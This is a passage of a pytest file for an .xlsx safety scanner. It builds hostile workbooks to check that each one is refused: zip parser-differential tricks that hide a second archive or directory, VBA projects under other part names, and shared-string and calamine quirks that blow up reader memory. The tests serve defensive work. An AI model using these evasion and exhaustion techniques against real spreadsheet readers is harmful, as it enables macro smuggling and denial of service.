    from tests.hostile import engagement_part, read_part

    base = valid_bytes(tmp_path)
    part = engagement_part(base)
    return base, part, read_part(base, part)


def _not_well_formed(xml: bytes) -> dict[str, bytes]:
    from tests.hostile import reencoded

    half = xml[: len(xml) // 2]
    return {
        "not XML at all": b"this is not a worksheet",
        "truncated": half,
        "a tag never closed": xml.replace(b"</sheetData>", b"<row></sheetData>"),
        "a byte that is not UTF-8": xml.replace(b"</sheetData>", b'<row r="99"><c r="A99" t="inlineStr"><is><t>'
                                                b"caf\xe9</t></is></c></row></sheetData>"),
        "UTF-16 LE with a byte-order mark, truncated": reencoded(half, "utf-16-le", bom=True, declare="UTF-16"),
        "UTF-16 BE without a byte-order mark, truncated": reencoded(half, "utf-16-be", bom=False, declare=""),
        "UTF-16 declared UTF-8": reencoded(xml, "utf-16-le", bom=False, declare="UTF-8"),
        "UTF-8 declared UTF-16": reencoded(xml, "utf-8", bom=False, declare="UTF-16"),
        "an unknown encoding": reencoded(xml, "utf-8", bom=False, declare="x-no-such-encoding"),
        "UTF-32 with a byte-order mark": reencoded(xml, "utf-32-le", bom=True, declare="UTF-32"),
    }


@pytest.mark.parametrize("how", list(_not_well_formed(b"<sheetData></sheetData>")))
def test_a_worksheet_that_is_not_well_formed_xml_is_wb001_naming_it(tmp_path, how):
    from tests.hostile import rezip

    base, part, xml = _engagement(tmp_path)
    findings = _refused(tmp_path, rezip(base, replace={part: _not_well_formed(xml)[how]}))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert part in findings[0].message and "corrupt" in findings[0].message, findings[0].message


@pytest.mark.parametrize("which", ["xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"])
@pytest.mark.parametrize("how", ["not XML at all", "truncated", "UTF-16 LE with a byte-order mark, truncated",
                                 "an unknown encoding"])
def test_shared_strings_styles_and_workbook_parts_that_are_not_well_formed_are_wb001(tmp_path, which, how):
    from tests.hostile import read_part, rezip, with_shared_strings

    base = with_shared_strings(valid_bytes(tmp_path))
    bad = _not_well_formed(read_part(base, which))[how]
    findings = _refused(tmp_path, rezip(base, replace={which: bad}))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert which in findings[0].message, findings[0].message


@pytest.mark.parametrize("encoding, bom, declare", [
    ("utf-16-le", True, "UTF-16"), ("utf-16-be", True, "UTF-16"), ("utf-16-le", False, ""),
    ("utf-16-be", False, "utf-16"), ("utf-8", True, "UTF-8"), ("iso-8859-1", False, "ISO-8859-1"),
])
def test_well_formed_parts_in_another_encoding_read_as_in_utf8(tmp_path, encoding, bom, declare):
    """ECMA-376 allows UTF-16 parts; the reader reads only UTF-8, so they are read through a UTF-8 copy."""
    from isap.policy import Policy
    from isap.workbook.parse import parse
    from isap.workbook.safety import inspect
    from tests.hostile import read_part, reencoded, rezip, with_shared_strings

    base = with_shared_strings(valid_bytes(tmp_path))
    reference = tmp_path / "utf8.xlsx"
    reference.write_bytes(base)
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        parts = [n for n in z.namelist() if n.startswith("xl/worksheets/") or n in (
            "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels")]
    odd = tmp_path / "odd.xlsx"
    odd.write_bytes(rezip(base, replace={p: reencoded(read_part(base, p), encoding, bom=bom, declare=declare)
                                         for p in parts}))
    a, b = parse(inspect(reference, Policy())), parse(inspect(odd, Policy()))
    assert b.structural_findings == a.structural_findings == ()
    for name in ("Services", "Finance", "Transparency", "Partners", "Engagement"):
        assert dict(b.sheet(name).columns) == dict(a.sheet(name).columns)
    assert dict(b.cover.values) == dict(a.cover.values)
    assert check_file(odd).findings == []


@pytest.mark.parametrize("which", ["engagement", "xl/styles.xml", "docProps/app.xml"])
def test_a_part_stored_as_a_symbolic_link_is_wb001_naming_it(tmp_path, which):
    from tests.hostile import as_symlink

    base, part, _ = _engagement(tmp_path)
    part = part if which == "engagement" else which
    findings = _refused(tmp_path, as_symlink(base, part))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert part in findings[0].message and "symbolic link" in findings[0].message, findings[0].message


def test_a_strict_open_xml_workbook_is_wb001_saying_how_to_save_it(tmp_path):
    from tests.hostile import strict_open_xml

    findings = _refused(tmp_path, strict_open_xml(valid_bytes(tmp_path)))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    message = findings[0].message
    assert "Strict Open XML" in message and '"Excel Workbook (.xlsx)"' in message, message
    assert "missing" not in message


@pytest.mark.parametrize("relationship, content_type", [(True, False), (False, True), (True, True)])
@pytest.mark.parametrize("part", ["xl/macros.dat", "xl/media/image9.png", "customXml/item1.bin"])
def test_a_vba_project_under_any_name_is_wb002(tmp_path, part, relationship, content_type):
    from tests.hostile import vba_project_elsewhere

    data = vba_project_elsewhere(valid_bytes(tmp_path), part, relationship=relationship, content_type=content_type)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB002"], findings
    assert part in findings[0].message, findings[0].message


def test_a_vba_project_declared_in_utf16_content_types_is_wb002(tmp_path):
    from tests.hostile import read_part, reencoded, rezip, vba_project_elsewhere

    data = vba_project_elsewhere(valid_bytes(tmp_path), "xl/macros.dat", relationship=False, content_type=True)
    ct = reencoded(read_part(data, "[Content_Types].xml"), "utf-16-le", bom=True, declare="UTF-16")
    findings = _refused(tmp_path, rezip(data, replace={"[Content_Types].xml": ct}))
    assert [f.rule_id for f in findings] == ["WB002"], findings


# ------------------------------------------------------------------ slow and large spellings: bounded cost


def test_a_styles_part_of_twenty_thousand_cell_formats_is_read(tmp_path):
    """The limit on the tags and attributes of a part parsed whole leaves room for a styles part of 20,000 cell
    formats as Excel writes them, far more than a workbook made from the template holds."""
    from tests.hostile import many_cell_formats

    path = tmp_path / "formats.xlsx"
    path.write_bytes(many_cell_formats(valid_bytes(tmp_path)))
    assert check_file(path).findings == []


@pytest.mark.parametrize("fixed", [["FIXED0", "FIXED1"], None], ids=["both parts", "only the named part"])
@pytest.mark.parametrize("reader", ["python-calamine", "fastexcel"])
def test_the_reader_reads_the_shared_strings_the_relationships_name_and_no_other(tmp_path, reader, fixed):
    """Both readers read `xl/sharedStrings.xml` by that name whatever the relationships say, so a workbook
    whose relationships name another part is given to them as a copy holding the named part under that name:
    the part the scan measured is the one read, and a part under the usual name beside it is never read."""
    from python_calamine import CalamineWorkbook

    from isap.policy import Policy
    from isap.workbook.safety import inspect
    from tests.hostile import shared_strings_under_another_name

    path = tmp_path / "renamed.xlsx"
    path.write_bytes(shared_strings_under_another_name(valid_bytes(tmp_path), ["NAMED0", "NAMED1"], fixed))
    inspection = inspect(path, Policy())
    data = inspection.reading_data or inspection.data
    first = next(s for s in inspection.sheets if s.is_worksheet).read_name
    if reader == "python-calamine":
        row = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(first).to_python()[0]
    else:
        import fastexcel

        row = list(fastexcel.read_excel(data).load_sheet(first, header_row=None).to_arrow().to_pylist()[0].values())
    assert row[:2] == ["NAMED0", "NAMED1"], row


def test_a_shared_strings_part_the_relationships_do_not_name_gets_the_shared_strings_limits(tmp_path):
    """The readers read `xl/sharedStrings.xml` when the relationships name no shared strings part: it is
    counted as the named part would be (here against a policy allowing three entries)."""
    from isap.policy import Policy
    from tests.hostile import with_shared_strings, without_relationship

    path = tmp_path / "unnamed.xlsx"
    path.write_bytes(without_relationship(with_shared_strings(valid_bytes(tmp_path)), "sharedStrings"))
    report = check_file(path, Policy(max_shared_strings=3))
    assert [f.rule_id for f in report.findings] == ["WB003"], report.findings
    assert "max_shared_strings" in report.findings[0].message, report.findings[0].message
    assert not check_file(path).findings  # within the limits it is read as the named part is


@pytest.mark.parametrize("named", [True, False], ids=["named", "not named"])
def test_a_styles_part_over_its_limit_is_wb003_whether_or_not_the_relationships_name_it(tmp_path, named):
    """The readers read `xl/styles.xml` when the relationships name no styles part: it is held to the same
    limit as a named one (and its date formats are the ones the scan measures with)."""
    from tests.hostile import read_part, rezip, without_relationship

    base = valid_bytes(tmp_path)
    styles = read_part(base, "xl/styles.xml")
    # 11 MiB of text that does not compress away (a part over 200:1 is refused as a zip bomb), over the 10 MiB
    # a styles part may be
    padding = b"<!--" + random.Random(3).randbytes(11 << 19).hex().encode() + b"-->"
    data = rezip(base, replace={"xl/styles.xml": styles.replace(b"<numFmts", padding + b"<numFmts", 1)
                                if b"<numFmts" in styles else styles + padding})
    if not named:
        data = without_relationship(data, "styles")
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB003"], findings
    assert "xl/styles.xml" in findings[0].message, findings[0].message


def test_sheets_each_within_the_area_limit_are_refused_together_over_the_workbook_limit(tmp_path):
    """The area a reader holds at once is what its memory follows: a workbook's sheets together are bounded,
    not only each one (policy max_cells_per_workbook, docs/decisions/0055-workbook-cell-limit.md)."""
    from isap.policy import Policy

    path = tmp_path / "typical.xlsx"
    path.write_bytes(valid_bytes(tmp_path))
    assert not check_file(path, Policy(max_cells_per_workbook=10_000)).refused
    report = check_file(path, Policy(max_cells_per_workbook=300))  # it spans about 400
    assert [f.rule_id for f in report.findings] == ["WB003"] and report.exit_code == 2, report.findings
    assert "300 cells" in report.findings[0].message and "max_cells_per_workbook" in report.findings[0].message


@pytest.mark.parametrize("measured", ["by its canonical cells", "exactly"])
def test_a_shared_string_number_of_thousands_of_digits_is_a_finding_not_a_defect(tmp_path, measured):
    """A cell naming shared string number 111…10 (5,001 digits, more than Python turns into an integer) in a
    sheet whose cells could copy more text than the bound says (so each cell's entry is counted): it names no
    entry, as any number beyond the entries does, whether the sheet was measured by its canonical cells or
    by the exact parse; never an isap defect, nor a claim that the XML is not well-formed."""
    from tests.hostile import read_part, repeated_shared_text, rezip

    data = repeated_shared_text(valid_bytes(tmp_path), entries=200, length=2000, rows=400, columns=50)
    sheet = read_part(data, "xl/worksheets/sheet3.xml")
    sheet = sheet.replace(b'<c r="A2" t="s"><v>', b'<c r="A2" t="s"><v>' + b"1" * 5000 + b"0", 1)
    if measured == "exactly":  # a comment sends the sheet to the exact parse
        sheet = sheet.replace(b"<sheetData>", b"<!-- notes --><sheetData>", 1)
    path = tmp_path / "long-number.xlsx"
    path.write_bytes(rezip(data, replace={"xl/worksheets/sheet3.xml": sheet}))
    report = check_file(path)
    assert report.exit_code != 3 and not any(f.rule_id == "ISAP" for f in report.findings), report.findings
    assert not any("well-formed" in f.message for f in report.findings), report.findings


# ------------------------------------------------------------------ text in cells: Excel's 32,767 characters

@pytest.mark.parametrize("spelling", ["", "<!-- notes -->"], ids=["canonical", "exact parse"])
def test_a_cell_longer_than_excel_allows_is_refused_naming_its_sheet_and_cell(tmp_path, spelling):
    """Excel holds at most 32,767 characters in a cell: a longer inline string is WB003 from the scan, naming
    the sheet, the cell and the limit, whether the sheet is measured by its canonical cells or parsed."""
    from tests.hostile import long_title, prose

    findings = _refused(tmp_path, long_title(valid_bytes(tmp_path), prose(40_000), spelling=spelling))
    assert [f.rule_id for f in findings] == ["WB003"], findings
    message = findings[0].message
    assert "'Cover'" in message and "B4" in message and "32,767" in message, message


@pytest.mark.parametrize("spelling", ["", "<!-- notes -->"], ids=["canonical", "exact parse"])
def test_a_cell_of_exactly_excels_limit_is_read(tmp_path, spelling):
    """32,767 characters, counted as characters (an emoji, an escaped "&" and a three-byte character each one),
    are within the limit."""
    from tests.hostile import long_title, prose

    text = "€&amp;" + prose(32_765, emoji=True)
    path = tmp_path / "limit.xlsx"
    path.write_bytes(long_title(valid_bytes(tmp_path), text, spelling=spelling))
    report = check_file(path)
    assert not report.refused, report.findings


def test_a_formula_text_result_longer_than_excel_allows_is_refused(tmp_path):
    from tests.hostile import prose, read_part, rezip

    base = valid_bytes(tmp_path)
    cover = read_part(base, "xl/worksheets/sheet2.xml")
    cover = cover.replace(b'<c r="B4" t="inlineStr"><is><t>', b'<c r="B4" t="str"><f>A1</f><v>'
                          + prose(33_000).encode() + b"</v></c><c r=\"Z4\" t=\"inlineStr\"><is><t>", 1)
    findings = _refused(tmp_path, rezip(base, replace={"xl/worksheets/sheet2.xml": cover}))
    assert [f.rule_id for f in findings] == ["WB003"] and "B4" in findings[0].message, findings


def test_a_shared_text_entry_longer_than_excel_allows_is_refused(tmp_path):
    from tests.hostile import repeated_shared_text

    findings = _refused(tmp_path, repeated_shared_text(valid_bytes(tmp_path), entries=1, length=33_000, rows=2,
                                                       columns=2))
    assert [f.rule_id for f in findings] == ["WB003"], findings
    assert "Cell A2 of sheet 'Services' holds 33,000 characters" in findings[0].message, findings
    assert "32,767" in findings[0].message


def test_inline_text_counts_in_the_workbooks_text_budget_an_emoji_at_four_bytes_a_character(tmp_path):
    """Inline strings are held once read as shared-text copies are: they count in max_shared_text_bytes, and
    text with a character above U+FFFF at 4 bytes a character, as Python holds it."""
    from isap.policy import Policy
    from tests.hostile import wide_engagement

    base = valid_bytes(tmp_path)
    plain, emoji = tmp_path / "plain.xlsx", tmp_path / "emoji.xlsx"
    plain.write_bytes(wide_engagement(base, 100, 1000, emoji=False))  # 200,000 characters of inline text
    emoji.write_bytes(wide_engagement(base, 100, 1000, emoji=True))
    policy = Policy(max_shared_text_bytes=400_000)
    assert not check_file(plain, policy).refused
    report = check_file(emoji, policy)  # about 800,000 bytes as read
    assert [f.rule_id for f in report.findings] == ["WB003"], report.findings
    assert "max_shared_text_bytes" in report.findings[0].message


def test_a_sheets_text_bound_is_counted_cell_by_cell_before_the_file_is_refused(tmp_path):
    """The scan keeps a cheap bound of a well-written sheet's inline text; a workbook whose bounds pass the limit
    while its text does not is counted cell by cell and read."""
    from isap.policy import Policy
    from isap.workbook import safety
    from tests.hostile import wide_engagement

    path = tmp_path / "plain.xlsx"
    path.write_bytes(wide_engagement(valid_bytes(tmp_path), 100, 1000, emoji=False))
    bound = sum(s.text_bytes for s in safety.inspect(path, Policy()).sheets)
    counted = sum(s.text_bytes for s in safety.inspect(path, Policy(max_shared_text_bytes=bound - 1)).sheets)
    assert 200_000 <= counted < bound


@pytest.mark.parametrize("local, directory", [(zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED),
                                              (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED)])
def test_a_part_whose_local_header_and_directory_disagree_on_compression_is_wb001(tmp_path, local, directory):
    """The scan inflated a part as its local header says, the readers as the zip directory says: a part stored
    by one and deflated by the other is two different parts, and no zip writer makes one."""
    import struct

    from tests.hostile import rezip

    data = bytearray(rezip(valid_bytes(tmp_path), compression=directory))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in z.namelist() else \
            z.getinfo("xl/workbook.xml")
    struct.pack_into("<H", data, info.header_offset + 8, local)
    findings = _refused(tmp_path, bytes(data))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert info.filename in findings[0].message, findings[0].message


def test_a_file_holding_a_second_archive_for_the_reader_is_wb001(tmp_path):
    """The scan's zip reader took the last end record of a file, the readers' the one before it when the last
    one's comment runs past the end of the file: a clean archive was measured while the reader read another,
    holding macros (or a 344 MB sheet), never measured.  Such a file is refused whichever archive is which."""
    from python_calamine import CalamineWorkbook

    from tests.hostile import two_archives, vba_project_elsewhere

    clean_bytes = valid_bytes(tmp_path)
    macros = vba_project_elsewhere(clean_bytes, "xl/vbaProject.bin", relationship=True, content_type=True)
    data = two_archives(clean_bytes, macros)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "xl/vbaProject.bin" not in z.namelist()  # what the scan would have measured: the clean one
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names  # the reader reads a workbook all the same
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "end record does not end the file" in findings[0].message, findings[0].message


def test_bytes_that_belong_to_no_part_are_wb001(tmp_path):
    """A zip archive whose parts do not follow one another from the file's first byte (data before them, a gap,
    two directory records naming one part) is laid out by no zip writer, and may hide another archive."""
    data = valid_bytes(tmp_path)
    findings = _refused(tmp_path, b"PK\x03\x04" + bytes(60) + data)  # (zipfile reads past bytes put before)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "belong to no part" in findings[0].message, findings[0].message


def test_a_zip64_end_record_naming_another_directory_is_wb001(tmp_path):
    """Python's zipfile found the directory from its size, the readers' zip library from the offset and part count
    of the zip64 end record: one named the clean workbook's directory, the other a second one (with macros) hidden
    in a comment, over parts hidden in a stored part.  The size, offset and count must name the one directory."""
    from python_calamine import CalamineWorkbook

    from tests.hostile import vba_project_elsewhere, zip64_second_directory

    clean_bytes = valid_bytes(tmp_path)
    macros = vba_project_elsewhere(clean_bytes, "xl/vbaProject.bin", relationship=True, content_type=True)
    data = zip64_second_directory(clean_bytes, macros)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "xl/vbaProject.bin" not in z.namelist()  # what the scan would have measured: the clean one
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "directory is not the one its end record describes" in findings[0].message, findings[0].message


def _many_rows_for_the_reader(base: bytes, how: str) -> bytes:
    """`base`, with the Engagement sheet's part read by the readers' zip library as 150,000 rows of numbers
    while Python's zipfile reads the clean part, in one of the ways the two libraries have been found to
    disagree."""
    from tests.hostile import engagement_part, read_part, renamed_by_unicode_path, two_archives, zip64_second_directory

    part = engagement_part(base)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, 150_001))
    content = read_part(base, part).split(b"<sheetData")[0] + b"<sheetData>" + rows + b"</sheetData></worksheet>"
    if how == "renamed by an extra field":
        return renamed_by_unicode_path(base, part, content)
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts[part] = content
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    if how == "a second archive":
        return two_archives(base, out.getvalue())
    return zip64_second_directory(base, out.getvalue())


@pytest.mark.parametrize("how", ["a second archive", "a second directory", "renamed by an extra field"])
def test_the_reader_reads_only_the_parts_the_scan_measured_even_past_the_archive_check(tmp_path, monkeypatch, how):
    """Three attacks each found a new way for the scan's zip library and the reader's to read one file
    differently, so that the reader read a part the scan never measured.  Each is refused by the archive check;
    should a fourth get past it, the reader is given only the measured parts, copied into a plain archive: with
    the check taken away, each of the three files is read as the scan measured it (the clean Engagement sheet,
    not 150,000 rows the scan never saw)."""
    from python_calamine import CalamineWorkbook

    import isap.workbook.safety as safety
    from isap.policy import Policy
    from isap.rules.engine import check_file_in_process

    base = valid_bytes(tmp_path)
    data = _many_rows_for_the_reader(base, how)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Engagement").to_python()
    assert len(rows) >= 150_000  # what the reader reads of the file itself
    monkeypatch.setattr(safety, "_check_one_archive", lambda data, start_dir, infos: None)
    path = tmp_path / "two-readings.xlsx"
    path.write_bytes(data)
    assert check_file_in_process(path).findings == []  # (in this process, where the check is taken away)
    inspection = safety.inspect(path, Policy())
    with zipfile.ZipFile(io.BytesIO(inspection.reading_data)) as z, zipfile.ZipFile(io.BytesIO(base)) as clean:
        for scan in (s for s in inspection.sheets if s.is_worksheet):
            assert z.read(f"xl/worksheets/{scan.read_name}.xml") == clean.read(scan.part)
        assert all(not info.extra and info.flag_bits == UTF8_NAME for info in z.infolist())


def test_the_reader_is_given_the_measured_parts_stored_as_they_were(tmp_path):
    """The package the reader reads lists, in a workbook part of isap's own, only the worksheets the scan
    measured, each under a name of isap's own; their stored bytes, and those of the shared strings and styles,
    are the file's, unchanged (nothing is compressed again); and the reader reads from it what it reads from
    the file."""
    from python_calamine import CalamineWorkbook

    import isap.workbook.safety as safety
    from isap.policy import Policy

    path = tmp_path / "valid.xlsx"
    path.write_bytes(valid_bytes(tmp_path))
    inspection = safety.inspect(path, Policy())
    worksheets = [s for s in inspection.sheets if s.is_worksheet]
    with zipfile.ZipFile(io.BytesIO(inspection.reading_data)) as copy, zipfile.ZipFile(path) as original:
        copied = {f"xl/worksheets/{s.read_name}.xml": s.part for s in worksheets}
        copied.update({n: n for n in ("xl/sharedStrings.xml", "xl/styles.xml") if n in original.namelist()})
        assert "xl/styles.xml" in copied
        assert set(copy.namelist()) == {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                                        "xl/_rels/workbook.xml.rels", *copied}
        for name, part in copied.items():
            a, b = copy.getinfo(name), original.getinfo(part)
            assert (a.compress_type, a.compress_size, a.CRC) == (b.compress_type, b.compress_size, b.CRC)
            assert copy.read(name) == original.read(part)
        assert copy.read("xl/workbook.xml") != original.read("xl/workbook.xml")
    from_copy = CalamineWorkbook.from_filelike(io.BytesIO(inspection.reading_data))
    from_file = CalamineWorkbook.from_filelike(io.BytesIO(inspection.data))
    assert from_copy.sheet_names == [s.read_name for s in worksheets]
    for s in worksheets:
        assert from_copy.get_sheet_by_name(s.read_name).to_python() == from_file.get_sheet_by_name(s.name).to_python()


@pytest.mark.parametrize("how", ["second_id_on_a_sheet", "relationship_in_another_namespace"])
def test_a_workbook_part_calamine_reads_otherwise_is_read_as_the_scan_measured_it(tmp_path, how):
    """calamine takes a sheet's relationship from the last attribute whose local name is `id`, and any element
    named Relationship, in any namespace, the later of two winning: a sheet naming the styles part so, holding
    a sheet's data, had the reader read 100,000 rows × 100 columns (1.6 GB, or a panic) where the scan measured
    the Services sheet.  The reader is given a workbook part and relationships of isap's own, so the file is
    checked as the scan measured it: as the same file without the trick."""
    import tests.hostile as hostile

    base = valid_bytes(tmp_path)
    clean, tricked = tmp_path / "clean.xlsx", tmp_path / "tricked.xlsx"
    clean.write_bytes(base)
    tricked.write_bytes(getattr(hostile, how)(base, 2_000))
    expected = check_file(clean)
    report = check_file(tricked)
    assert (report.exit_code, report.findings) == (expected.exit_code, expected.findings)


@pytest.mark.parametrize("sheet, target, add, what", [
    (3, b"styles.xml", {}, "xl/styles.xml"),
    (1, b"sharedStrings.xml", {"xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                                                      b'2006/main" count="1" uniqueCount="1"><si><t>x</t></si></sst>'},
     "xl/sharedStrings.xml"),
    (1, b"workbook.xml", {}, "xl/workbook.xml"),
    (2, b"/xl/worksheets/sheet3.xml", {}, "xl/worksheets/sheet3.xml"),
], ids=["styles", "shared strings", "workbook part", "another sheet"])
def test_a_sheet_whose_part_is_another_part_of_the_workbook_is_wb001(tmp_path, sheet, target, add, what):
    """A sheet naming the shared strings part was measured only as a sheet, so the entries' limits went
    unchecked while the reader read the part as the shared strings (640 MB of copied text, assessed); one naming
    the styles part was never measured at all.  A worksheet's part is its own."""
    from tests.hostile import sheet_naming_part

    findings = _refused(tmp_path, sheet_naming_part(valid_bytes(tmp_path), sheet, target, add))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert f"names part {what}" in findings[0].message, findings[0].message


@pytest.mark.parametrize("before, what", [
    (b"<!--<si>-->", "holds a comment"),
    (b"<?x <si>?>", "holds a processing instruction"),
    (b"<si><t><![CDATA[x]]></t></si>", "holds a CDATA section"),
    (b"<si><si><t>x</t></si></si>", "holds an entry inside an entry"),
    (b"<si><t>a<b/>c</t></si>", "holds an element inside a text"),
], ids=["comment", "processing instruction", "CDATA", "nested entry", "element in a text"])
def test_shared_strings_the_reader_would_number_or_read_otherwise_are_wb001(tmp_path, before, what):
    """The scan found shared string entries by a byte pattern, which a `<si>` in a comment or processing
    instruction matched too: each entry's number then named another for the reader, and 60,000 cells counted as
    copying nothing copied a 32,000-character entry each (2 GB, assessed).  What no spreadsheet program writes in
    shared strings, and what the reader would number or read otherwise, is WB001."""
    from tests.hostile import long_text, shared_strings_named_by_cells

    entries = before + b"<si><t>" + long_text(32_000) + b"</t></si>"
    data = shared_strings_named_by_cells(valid_bytes(tmp_path), entries, cells=1_200)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert what in findings[0].message, findings[0].message


def test_shared_strings_named_as_usual_with_the_same_entry_are_measured(tmp_path):
    """The same long entry, named by the same cells, without the trick: the text they copy is over the limit."""
    from tests.hostile import long_text, shared_strings_named_by_cells

    entry = b"<si><t>" + long_text(32_000) + b"</t></si>"
    data = shared_strings_named_by_cells(valid_bytes(tmp_path), entry, cells=1_200)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB003"], findings
    assert "max_shared_text_bytes" in findings[0].message


@pytest.mark.parametrize("value", [b"x", b"12345678901234567890", b" 0"], ids=["letters", "20 digits", "spaced"])
def test_shared_string_cells_whose_value_is_no_entry_number_are_refused(tmp_path, value):
    """The reader reads a shared-string cell's value it cannot read as a number as entry 0; the scan had counted
    such cells as copying nothing, so 60,000 of them copied a 32,000-character entry each (2 GB, assessed).
    Spreadsheet programs read such a value otherwise (or not at all): it is WB001 at the first cell."""
    from tests.hostile import long_text, shared_strings_named_by_cells

    entry = b"<si><t>" + long_text(32_000) + b"</t></si>"
    data = shared_strings_named_by_cells(valid_bytes(tmp_path), entry, cells=1_200, value=value)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "cell K100 of sheet 'Services' names a shared string as" in findings[0].message


def test_shared_strings_saying_they_hold_more_entries_than_they_do_are_wb001(tmp_path):
    """The reader makes room for as many entries as the part says it holds before reading one: a 28 KB file
    saying 10^12 needed more than the memory limit, and the largest count made it panic."""
    from tests.hostile import shared_strings_named_by_cells

    data = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>x</t></si>", cells=3,
                                         declared=b"1000000000000")
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "says it holds 1000000000000 entries but holds 1" in findings[0].message, findings[0].message


@pytest.mark.parametrize("cell", [
    b'<c r="K7" t="inlineStr"><is><t>%s<x/>%s</t></is></c>',
    b'<c r="K7" t="str"><f>1</f><v>%s<x/>%s</v></c>',
], ids=["inline string", "formula text"])
def test_a_cell_whose_text_holds_an_element_is_wb001(tmp_path, cell):
    """The exact parse counted a cell's text up to its first child element; the reader reads the text on both
    sides of it: 8 cells of 30 million characters each passed as 8 of 30,000 (586 MB, assessed)."""
    from tests.hostile import long_text, rezip

    base = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        sheet = z.read("xl/worksheets/sheet3.xml")
    text = long_text(20_000)
    row = b'<row r="7">' + cell % (text, text) + b"</row>"
    data = rezip(base, {"xl/worksheets/sheet3.xml": sheet.replace(b"</sheetData>", row + b"</sheetData>", 1)})
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "cell K7 of sheet 'Services' holds an XML element inside its text" in findings[0].message


def test_only_the_number_formats_of_the_cell_formats_list_make_dates():
    """A differential format's number format (inside `dxfs`) with a cell format's id made a currency column a date
    to the scan, where Excel and the reader show pounds."""
    from isap.workbook.safety import _date_styles

    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    styles = (b"<styleSheet %s><numFmts count=\"1\">"
              b"<numFmt numFmtId=\"165\" formatCode=\"&quot;\xc2\xa3&quot;#,##0.00\"/></numFmts>"
              b"<cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"165\"/></cellXfs>%s</styleSheet>")
    dxf = b'<dxfs count="1"><dxf><numFmt numFmtId="165" formatCode="yyyy-mm-dd"/></dxf></dxfs>'
    assert _date_styles(styles % (ns, b""), "xl/styles.xml") == frozenset()
    assert _date_styles(styles % (ns, dxf), "xl/styles.xml") == frozenset()
    dated = styles.replace(b"&quot;\xc2\xa3&quot;#,##0.00", b"yyyy-mm-dd")
    assert _date_styles(dated % (ns, b""), "xl/styles.xml") == frozenset({1})


@pytest.mark.parametrize("exact", [False, True], ids=["canonical", "exact parse"])
@pytest.mark.parametrize("value, what", [(b"1&#48;", "a character reference"), (b"1<![CDATA[0]]>", "XML markup"),
                                         (b"1<!--x-->0", "XML markup"), (b"1<?x?>0", "XML markup")],
                         ids=["character reference", "CDATA", "comment", "processing instruction"])
def test_a_value_the_reader_reads_only_in_part_is_wb001(tmp_path, value, what, exact):
    """The reader reads a shared string's number (or any value but a formula's text) only up to its first
    character reference, CDATA section, comment or processing instruction: `1&#48;` was entry 1 to it and 10 to
    the scan, so 60,000 cells copied a 32,000-character entry each (2 GB, assessed)."""
    from tests.hostile import long_text, services_rows, shared_strings_named_by_cells

    base = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>a</t></si><si><t>"
                                         + long_text(32_000) + b"</t></si>", cells=0, declared=b"2")
    data = services_rows(base, [b'<row r="100"><c r="K100" t="s"><v>%s</v></c></row>' % value], exact=exact)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert f"a cell value of sheet 'Services' holds {what}" in findings[0].message, findings[0].message


@pytest.mark.parametrize("exact", [False, True], ids=["canonical", "exact parse"])
def test_a_formulas_text_may_hold_an_entity(tmp_path, exact):
    """Excel writes a formula's text result holding "&" as `&amp;`, which the reader reads whole."""
    from tests.hostile import services_rows

    row = b'<row r="100"><c r="K100" t="str"><v>Health &amp; care</v></c></row>'
    data = services_rows(valid_bytes(tmp_path), [row], exact=exact)
    path = tmp_path / "amp.xlsx"
    path.write_bytes(data)
    assert not [f for f in check_file(path).findings if f.rule_id.startswith("WB")]


def test_cells_typed_as_shared_strings_holding_inline_text_are_refused(tmp_path):
    """The reader reads an `<is>` whatever the cell's type says; the exact parse counted a `t="s"` cell holding
